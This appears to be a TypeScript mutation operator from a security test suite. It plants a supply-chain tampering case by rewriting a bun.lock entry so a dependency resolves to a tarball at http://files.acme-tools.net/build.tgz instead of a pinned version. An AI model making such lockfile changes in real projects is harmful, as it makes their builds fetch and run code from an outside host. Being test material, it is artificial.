import type { Operator } from '../operator.ts';
import { change } from '../definitions.ts';

export default {
  title: 'Use the build of a colleague, with bun',
  checkers: [9],
  plant: (tree) =>
    change(tree, (path) => path === 'bun.lock', {
      find: /^ +"[\w-]+": \["([\w-]+@[\d.]+", ")", \{/u,
      by: (found) => found.replace(/@[\d.]+", "$/u, '@http://files.acme-tools.net/build.tgz", "'),
    }),
} satisfies Operator;
